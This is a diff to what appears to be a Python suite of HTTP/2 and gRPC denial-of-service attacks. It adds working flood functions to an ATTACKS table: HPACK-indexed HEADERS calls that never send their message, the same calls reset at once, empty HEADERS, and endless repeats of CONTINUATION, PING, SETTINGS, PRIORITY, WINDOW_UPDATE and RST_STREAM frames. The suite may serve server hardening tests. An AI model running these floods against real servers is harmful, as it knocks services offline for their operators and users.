@@ -5,6 +5,7 @@ Each attack works on one connection until that is cut or it has sent its fill;
 
 import contextlib
 import gzip
+import itertools
 import os
 import socket
 import struct
@@ -12,8 +13,9 @@ import threading
 import time
 
 from raw_http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
-                       PING, RST_STREAM, SERVICE, SETTINGS, call_headers,
-                       encode, frame, message)
+                       PING, PRIORITY, RST_STREAM, SERVICE, SETTINGS,
+                       WINDOW_UPDATE, call_headers, encode, frame,
+                       indexed_headers, message)
 
 REFLECTION = ("/grpc.reflection.v1alpha.ServerReflection/"
               "ServerReflectionInfo")
@@ -99,6 +101,50 @@ def resets(connect):
             for first in range(1, 60000, 100)))
 
 
+def indexed_calls(connect):
+    """Calls of 15 bytes each that never bring their message, of a client that
+    has agreed to no limit."""
+    first, again = indexed_headers(call_headers())
+    with connect(acknowledge=False) as connection:
+        until_cut(connection, itertools.chain(
+            [frame(HEADERS, first, END_HEADERS, 1)],
+            (b"".join(frame(HEADERS, again, END_HEADERS, stream)
+                      for stream in range(begin, begin + 1000, 2))
+             for begin in range(3, 2**31, 1000))))
+        linger(connection, SECONDS)
+
+
+def indexed_resets(connect):
+    """The same, each reset at once: 28 bytes a call."""
+    first, again = indexed_headers(call_headers())
+    with connect(acknowledge=False) as connection:
+        until_cut(connection, itertools.chain(
+            [frame(HEADERS, first, END_HEADERS, 1)],
+            (b"".join(frame(HEADERS, again, END_HEADERS, stream) +
+                      frame(RST_STREAM, struct.pack(">I", 8), 0, stream)
+                      for stream in range(begin, begin + 1000, 2))
+             for begin in range(3, 2**31, 1000))))
+
+
+def empty_headers(connect):
+    """Calls of 9 bytes each, without a single header."""
+    with connect(acknowledge=False) as connection:
+        until_cut(connection, (
+            b"".join(frame(HEADERS, b"", END_HEADERS, stream)
+                     for stream in range(begin, begin + 1000, 2))
+            for begin in range(1, 2**31, 1000)))
+        linger(connection, SECONDS)
+
+
+def same_frames(one, opening=b""):
+    """One frame over and over, behind the opening."""
+    def attack(connect):
+        with connect(acknowledge=False) as connection:
+            connection.send(opening)
+            until_cut(connection, itertools.repeat(one * 500))
+    return attack
+
+
 def calls_that_stay(path, body=b""):
     """As many as are taken, that nobody ends."""
     headers = encode(call_headers(path=path))
@@ -163,6 +209,22 @@ ATTACKS = {
     "stalled readers": stalled_readers,
     "stalled uploads": stalled_uploads,
     "pings and settings": pings_and_settings,
+    "indexed calls": indexed_calls,
+    "indexed resets": indexed_resets,
+    "empty headers": empty_headers,
+    "empty continuations": same_frames(
+        frame(CONTINUATION, b"", 0, 1), block()),
+    "pings": same_frames(frame(PING, b"x" * 8)),
+    "settings": same_frames(frame(SETTINGS, struct.pack(">HI", 4, 65535))),
+    "settings that change": same_frames(
+        frame(SETTINGS, struct.pack(">HI", 4, 65535)) +
+        frame(SETTINGS, struct.pack(">HI", 4, 65534))),
+    "priorities": same_frames(
+        frame(PRIORITY, struct.pack(">IB", 0, 5), 0, 1)),
+    "window updates": same_frames(
+        frame(WINDOW_UPDATE, struct.pack(">I", 1))),
+    "resets of nothing": same_frames(
+        frame(RST_STREAM, struct.pack(">I", 8), 0, 1)),
 }
 
 
